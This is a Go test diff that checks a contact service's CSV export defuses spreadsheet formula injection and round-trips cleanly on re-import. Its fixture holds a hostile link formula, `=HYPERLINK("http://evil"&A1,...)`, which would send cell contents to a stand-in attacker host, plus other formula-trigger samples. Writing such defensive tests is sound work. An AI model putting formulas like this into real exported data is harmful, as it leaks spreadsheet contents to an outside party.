@@ -231,3 +231,29 @@ func byName(rows [][]string) [][]string {
 	}
 	return out
 }
+
+// A CSV export writes a text a spreadsheet would run as a formula with a
+// leading "'" (OWASP CSV injection), but not phone numbers or numbers,
+// and the importer drops that quote again: the export imports back whole.
+func TestACSVExportMakesFormulasInertAndImportsBackTheSame(t *testing.T) {
+	h := servicetest.Start(t, contact.Service(), servicetest.Options{})
+	tok := h.Token(t, auth.Sales)
+	const evil = `=HYPERLINK("http://evil"&A1,"x")`
+	createPerson(t, h, tok, `{"full_name":"=HYPERLINK(\"http://evil\"&A1,\"x\")","phones":["+84912345678","0987654321"],"notes":"+SUM(1,2)","tags":["@all","-1"]}`)
+	r := h.Do(t, "GET", people+"/export?format=csv", tok, nil)
+	rows := readCSV(t, r)
+	cell := func(col string) string { return rows[1][slices.Index(rows[0], col)] }
+	for col, want := range map[string]string{"full_name": "'" + evil, "notes": "'+SUM(1,2)", "phones": "+84912345678; +84987654321", "tags": "'@all; -1"} {
+		if got := cell(col); got != want {
+			t.Errorf("%s: %q, want %q", col, got, want)
+		}
+	}
+	other := servicetest.Start(t, contact.Service(), servicetest.Options{})
+	otherTok := other.Token(t, auth.Sales)
+	if job := importFile(t, other, otherTok, "export.csv", r.Body, "people", 30*time.Second); job.Status != "done" || job.Progress.Created != 1 {
+		t.Fatalf("import back: %+v", job)
+	}
+	if got := namePairs(t, other, `SELECT name, (doc->>'notes') || ' ' || (doc->>'tags') FROM person`); got[evil] != `+SUM(1,2) ["@all", "-1"]` {
+		t.Fatalf("imported back: %v", got)
+	}
+}
